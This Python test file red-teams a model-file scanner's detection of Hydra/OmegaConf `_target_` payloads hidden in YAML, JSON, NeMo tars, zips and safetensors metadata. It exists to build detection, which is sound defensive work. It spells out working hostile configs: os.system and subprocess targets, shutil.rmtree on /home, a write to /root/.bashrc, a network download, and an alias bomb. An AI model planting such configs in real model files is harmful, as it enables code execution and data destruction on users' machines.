"""Red team: instantiation targets (`_target_`) in any config, in bundles and in metadata.

Hydra/OmegaConf `instantiate` (NeMo, Lightning recipes) imports a mapping's
`_target_` and calls it with the other keys. Each spelling below names a
process, exec, file or network function (critical) or an unlisted target
(high) in a different place: nested YAML, anchors and `<<` merges, JSON
lists, a `.nemo` tar's model_config.yaml, a zip, safetensors `__metadata__`.
The control proves the payload is live for Hydra; the scan never runs it.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from tests.builders import safetensors_bytes
from tests.scan_helpers import scan_files
from tests.test_redteam_pickles import tar_bytes

CMD = "touch {canary}"
YAML_SPELLINGS = {
    "nested": ("model:\n  encoder:\n    hook:\n      _target_: os.system\n"
               "      _args_: ['{cmd}']\n"),
    "partial": "optim:\n  _target_: subprocess.run\n  _partial_: true\n  args: '{cmd}'\n",
    "anchor-merge": ("base: &evil\n  _target_: os.system\nmodel:\n  layer:\n    <<: *evil\n"
                     "    _args_: ['{cmd}']\n"),
    "merge-list": ("a: &a {{lr: 1}}\nb: &b {{_target_: builtins.exec}}\n"
                   "c:\n  <<: [*a, *b]\n  _args_: ['import os']\n"),
    "alias-key": "k: &k _target_\nm:\n  *k : os.system\n  _args_: ['{cmd}']\n",
    "list-of-callbacks": ("trainer:\n  callbacks:\n    - _target_: torch.nn.ReLU\n"
                          "    - _target_: shutil.rmtree\n      path: /home\n"),
    "flow": "model: {{head: [{{_target_: 'subprocess.Popen', _args_: [['{cmd}']]}}]}}\n",
    "write-file": ("cb:\n  _target_: pathlib.Path.write_text\n  _args_: ['/root/.bashrc', "
                   "'{cmd}']\n"),
    "indirect": "f:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
    "call-helper": "f:\n  _target_: hydra.utils.call\n  config: {{_target_: torch.nn.ReLU}}\n",
    "network": "dl:\n  _target_: urllib.request.urlretrieve\n  url: http://x/evil\n",
    "import": "m:\n  _target_: importlib.import_module\n  name: evil\n",
    "interpolated": "defaults:\n  fn: os.system\nm:\n  _target_: ${{defaults.fn}}\n",
    "reexport-walk": "m:\n  _target_: transformers.utils.hub.os.system\n  _args_: ['{cmd}']\n",
}
UNLISTED_SPELLINGS = {
    "repo-module": "model:\n  _target_: modeling_custom.MyModel\n",
    "method": "m:\n  _target_: transformers.AutoModel.from_pretrained\n  path: org/evil\n",
    "unknown-function": "m:\n  _target_: mypkg.build\n",
}
COMPUTED_SPELLINGS = {
    "interpolation-unresolved": "m:\n  _target_: ${{model.cls}}\n",
    "env-resolver": "m:\n  _target_: ${{oc.env:TARGET}}\n",
    "mapping": "m:\n  _target_: {{a: b}}\n",
}


def findings(folder: Path) -> list[tuple[str, str, str]]:
    return [(f.rule, f.severity.label, f.detail) for r in scan_files(folder).values()
            for f in r.findings]


def rules_at(folder: Path) -> set[tuple[str, str]]:
    return {(rule, sev) for rule, sev, _ in findings(folder)}


def model_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "model"
    folder.mkdir()
    return folder


@pytest.mark.parametrize("spelling", sorted(YAML_SPELLINGS))
def test_dangerous_target_in_yaml_is_critical(tmp_path, spelling):
    folder = model_folder(tmp_path)
    text = YAML_SPELLINGS[spelling].format(cmd=CMD.format(canary=tmp_path / "CANARY"))
    (folder / "config.yaml").write_text(text)
    assert ("AUD-YAML-003", "critical") in rules_at(folder)
    assert not (tmp_path / "CANARY").exists()


@pytest.mark.parametrize("spelling", sorted(UNLISTED_SPELLINGS))
def test_unlisted_target_is_high(tmp_path, spelling):
    folder = model_folder(tmp_path)
    (folder / "hparams.yml").write_text(UNLISTED_SPELLINGS[spelling])
    assert rules_at(folder) == {("AUD-YAML-004", "high")}


@pytest.mark.parametrize("spelling", sorted(COMPUTED_SPELLINGS))
def test_computed_target_is_high(tmp_path, spelling):
    folder = model_folder(tmp_path)
    (folder / "config.yaml").write_text(COMPUTED_SPELLINGS[spelling].format())
    assert ("AUD-YAML-005", "high") in rules_at(folder)


def test_json_targets_at_any_depth_and_in_lists(tmp_path):
    folder = model_folder(tmp_path)
    config = {"model_type": "x", "layers": [{"a": 1}, {"act": {"_target_": "torch.nn.GELU"}},
                                            {"hook": {"_target_": "os.popen",
                                                      "_args_": ["id"]}}],
              "loader": {"_target_": "my_module.Loader"}}
    (folder / "config.json").write_text(json.dumps(config))
    found = findings(folder)
    assert ("AUD-YAML-003", "critical", "layers[2].hook: _target_ 'os.popen' _args_ ['id']: "
            "runs programs or shell commands") in found
    assert any(r == ("AUD-YAML-004", "high") for r in ((f[0], f[1]) for f in found))
    assert len(found) == 2


def test_json_interpolated_target_is_judged_by_what_it_names(tmp_path):
    folder = model_folder(tmp_path)
    doc = {"defaults": {"fn": "subprocess.call"}, "m": {"_target_": "${defaults.fn}"},
           "n": {"_target_": "${defaults.missing}"}}
    (folder / "cfg.json").write_text(json.dumps(doc))
    found = findings(folder)
    assert ("AUD-YAML-003", "critical", "m: _target_ '${defaults.fn}': interpolates defaults.fn "
            "= 'subprocess.call': runs programs or shell commands") in found
    assert ("AUD-YAML-005", "high") in {f[:2] for f in found}


def test_json_escape_spelling_of_the_key(tmp_path):
    folder = model_folder(tmp_path)
    (folder / "cfg.json").write_text('{"m": {"\\u005ftarget_": "builtins.eval", "_args_": ["1"]}}')
    assert ("AUD-YAML-003", "critical") in rules_at(folder)


def test_nemo_bundle_model_config(tmp_path):
    folder = model_folder(tmp_path)
    config = b"encoder:\n  _target_: nemo.collections.asr.modules.ConvASREncoder\n" \
             b"preprocessor:\n  _target_: subprocess.check_output\n  args: ['id']\n"
    (folder / "model.nemo").write_bytes(tar_bytes({"./model_config.yaml": config,
                                                     "./model_weights.ckpt": b"\x80\x02}q\x00."}))
    found = findings(folder)
    hits = [f for f in found if f[0] == "AUD-YAML-003"]
    assert hits and hits[0][1] == "critical" and "preprocessor" in hits[0][2], found


def test_zip_bundle_with_json_and_yaml(tmp_path):
    folder = model_folder(tmp_path)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("bundle/conf/train.yaml", "opt:\n  _target_: socket.create_connection\n")
        zf.writestr("bundle/conf/model.json", json.dumps({"_target_": "evil_pkg.Model"}))
    (folder / "bundle.zip").write_bytes(buf.getvalue())
    assert {("AUD-YAML-003", "critical"), ("AUD-YAML-004", "high")} <= rules_at(folder)


@pytest.mark.parametrize("metadata", [
    {"config": json.dumps({"model": {"_target_": "os.system", "_args_": ["id"]}})},
    {"config": "model:\n  _target_: os.system\n"},
    {"hparams": "{_target_: builtins.exec}"},
    {"_target_": "os.system"},
])
def test_safetensors_metadata_target(tmp_path, metadata):
    folder = model_folder(tmp_path)
    (folder / "model.safetensors").write_bytes(
        safetensors_bytes({"w": ("F32", [2])}, {"format": "pt", **metadata}))
    assert ("AUD-YAML-003", "critical") in rules_at(folder)


def test_safetensors_metadata_that_hides_a_target_in_unparsable_text(tmp_path):
    folder = model_folder(tmp_path)
    meta = {"format": "pt", "cfg": "_target_: os.system\n  bad: [indent"}
    (folder / "model.safetensors").write_bytes(safetensors_bytes({"w": ("F32", [2])}, meta))
    assert ("AUD-YAML-005", "high") in rules_at(folder)


def test_plain_metadata_stays_clean(tmp_path):
    folder = model_folder(tmp_path)
    meta = {"format": "pt", "note": "a: b", "cfg": json.dumps({"optim": {
        "_target_": "torch.optim.AdamW", "lr": 0.1}})}
    (folder / "model.safetensors").write_bytes(safetensors_bytes({"w": ("F32", [2])}, meta))
    assert findings(folder) == []


def test_alias_bomb_costs_only_its_text(tmp_path):
    """Nine levels of nine aliases: 9**9 nodes if expanded, a few hundred events as read."""
    lines = ["l0: &l0 {_target_: mypkg.X}"]
    lines += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 10)]
    folder = model_folder(tmp_path)
    (folder / "config.yaml").write_text("\n".join(lines) + "\n")
    assert findings(folder) == [("AUD-YAML-004", "high",
                                 "l0: _target_ 'mypkg.X': not a framework class on the allowlist")]


BENIGN_YAML = """\
defaults: &optim_defaults
  _target_: torch.optim.AdamW
  lr: 3.0e-4
model:
  _target_: transformers.BertConfig
  hidden_size: 32
  encoder:
    _target_: nemo.collections.asr.modules.ConvASREncoder
    activation:
      _target_: torch.nn.functional.gelu
      _partial_: true
  init:
    _target_: torch.nn.init.xavier_uniform_
    _partial_: true
optim:
  <<: *optim_defaults
  _partial_: true
sched:
  _target_: torch.optim.lr_scheduler.CosineAnnealingLR
  T_max: 10
loader:
  _target_: torch.utils.data.DataLoader
  batch_size: 4
act:
  _target_: hydra.utils.get_class
  path: torch.nn.SiLU
unet:
  _target_: diffusers.UNet2DModel
"""


def test_framework_targets_pass(tmp_path):
    folder = model_folder(tmp_path)
    (folder / "config.yaml").write_text(BENIGN_YAML)
    reports = scan_files(folder)
    assert [f for r in reports.values() for f in r.findings] == []
    assert reports["config.yaml"].facts["instantiation_targets"] == 10


def test_control_hydra_runs_a_module_of_the_repository(tmp_path):
    """The class is live: Hydra's instantiate imports and calls a target from the folder it
    runs in, through a `<<` merge (this Hydra blocks os.system itself; older ones do not)."""
    canary = tmp_path / "CANARY"
    (tmp_path / "modeling_evil.py").write_text(
        "import pathlib\ndef build(path):\n    pathlib.Path(path).touch()\n")
    text = f"base: &evil\n  _target_: modeling_evil.build\nm:\n  <<: *evil\n  path: {canary}\n"
    code = ("import sys, yaml\nfrom hydra.utils import instantiate\n"
            "instantiate(yaml.safe_load(sys.stdin.read())['m'])")
    subprocess.run([sys.executable, "-c", code], input=text.encode(), capture_output=True,
                   timeout=60, cwd=tmp_path)
    assert canary.exists()


SD_INFERENCE = """\
model:
  target: ldm.models.diffusion.ddpm.LatentDiffusion
  params:
    linear_start: 0.00085
    unet_config:
      target: ldm.modules.diffusionmodules.openaimodel.UNetModel
      params: {image_size: 32}
    first_stage_config:
      target: ldm.models.autoencoder.AutoencoderKL
      params:
        lossconfig: {target: torch.nn.Identity}
    cond_stage_config:
      target: ldm.modules.encoders.modules.FrozenCLIPEmbedder
data:
  target: labels.txt
"""


@pytest.mark.parametrize(("text", "expected"), [
    (SD_INFERENCE, set()),
    (SD_INFERENCE.replace("ldm.models.autoencoder.AutoencoderKL", "subprocess.run"),
     {("AUD-YAML-003", "critical")}),
    ("cond:\n  target: my_encoders.Evil\n  params: {dim: 4}\n", {("AUD-YAML-004", "high")}),
    ("cond:\n  target: my_encoders.Evil\n", set()),  # `target` alone is a common word
    ("encoder:\n  cls: os.system\n  params: {command: id}\n", {("AUD-YAML-003", "critical")}),
])
def test_target_params_and_nemo_cls_spellings(tmp_path, text, expected):
    folder = model_folder(tmp_path)
    (folder / "v1-inference.yaml").write_text(text)
    (folder / "model_config.json").write_text(json.dumps({"wrapped": [
        {"note": "the same mapping, in JSON"}, {"cfg": __import__("yaml").safe_load(text)}]}))
    found = rules_at(folder)
    assert found == expected


def test_every_allowlist_entry_says_why():
    from auditor.formats.code import targets

    for table in (targets.CLASS_PACKAGES, targets.FUNCTION_PACKAGES, targets.EXACT):
        assert all(len(why) > 20 for why in table.values()), table
    assert all(paths and why for why, paths in targets.DANGEROUS.items())


def test_complex_keys_and_odd_documents_do_not_break_the_walk(tmp_path):
    folder = model_folder(tmp_path)
    text = ("? {a: 1}\n: x\n? [b, {c: 2}]\n: y\n--- !!str plain\n---\n- *undefined_is_an_error\n")
    (folder / "a.yaml").write_text(text.split("---\n- ")[0])
    (folder / "b.yaml").write_text("? {_target_: os.system}\n: 1\n? [1]\n: {_target_: os.popen}\n")
    found = rules_at(folder)
    assert found == {("AUD-YAML-003", "critical")}


LIGHTNING_CLI = """\
trainer:
  callbacks:
    - class_path: lightning.pytorch.callbacks.ModelCheckpoint
      init_args: {monitor: val_loss}
optimizer:
  class_path: torch.optim.Adam
  init_args: {lr: 0.001}
"""


@pytest.mark.parametrize(("text", "expected"), [
    (LIGHTNING_CLI, set()),
    (LIGHTNING_CLI.replace("torch.optim.Adam", "subprocess.Popen"), {("AUD-YAML-003", "critical")}),
    (LIGHTNING_CLI + "model:\n  class_path: my_project.Model\n  init_args: {d: 4}\n",
     {("AUD-YAML-004", "high")}),
])
def test_lightning_cli_class_path_spelling(tmp_path, text, expected):
    folder = model_folder(tmp_path)
    (folder / "config.yaml").write_text(text)
    assert rules_at(folder) == expected


def test_a_dangerous_target_past_the_finding_cap_still_counts(tmp_path):
    folder = model_folder(tmp_path)
    lines = [f"m{i}: {{_target_: pkg.M{i}}}" for i in range(25)] + ["z: {_target_: os.system}"]
    (folder / "config.yaml").write_text("\n".join(lines) + "\n")
    found = findings(folder)
    assert len(found) == 21
    assert found[-1][:2] == ("AUD-YAML-003", "critical") and "6 more" in found[-1][2]


def test_a_target_of_many_parts_is_refused_quickly(tmp_path):
    folder = model_folder(tmp_path)
    (folder / "config.yaml").write_text("m: {_target_: " + ".".join(["a"] * 200_000) + "}\n")
    assert rules_at(folder) == {("AUD-YAML-005", "high")}
